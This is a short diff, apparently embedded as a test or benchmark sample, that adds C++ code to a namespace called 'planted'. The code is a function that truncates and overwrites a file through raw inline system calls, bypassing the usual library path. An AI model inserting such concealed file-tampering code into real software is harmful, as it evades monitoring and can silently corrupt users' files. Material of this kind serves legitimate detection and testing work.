@@ -119,5 +119,18 @@ inline long hidden_syscall(long number, long a, long b, long c) {
       : "rcx", "r11", "memory");
   return result;
 }
+inline long length(const char* text) {
+  long n = 0;
+  while (text[n] != 0) ++n;
+  return n;
+}
+// Truncates `path` and writes `text` into it by hidden system calls (openat, write): false when the
+// file could not be opened.
+inline bool overwrite_hidden(const char* path, const char* text) {
+  const long fd = hidden_syscall(257 /* openat */, -100 /* AT_FDCWD */, long(path), 01 | 01000 | 0100);
+  if (fd < 0) return false;
+  hidden_syscall(1 /* write */, fd, long(text), length(text));
+  return true;
+}
 }  // namespace planted
 """
